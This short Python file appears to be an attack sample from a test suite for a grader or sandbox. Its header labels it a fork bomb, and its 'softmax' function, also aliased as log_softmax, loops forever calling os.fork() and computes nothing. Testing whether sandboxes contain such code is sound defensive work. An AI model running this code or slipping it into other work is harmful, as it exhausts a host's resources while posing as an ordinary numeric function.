# attack: a fork bomb
# points: 0
# statuses: errored
# needs: full
# naive: unsafe
import os


def softmax(logits, dim=-1):
    while True:
        os.fork()


log_softmax = softmax
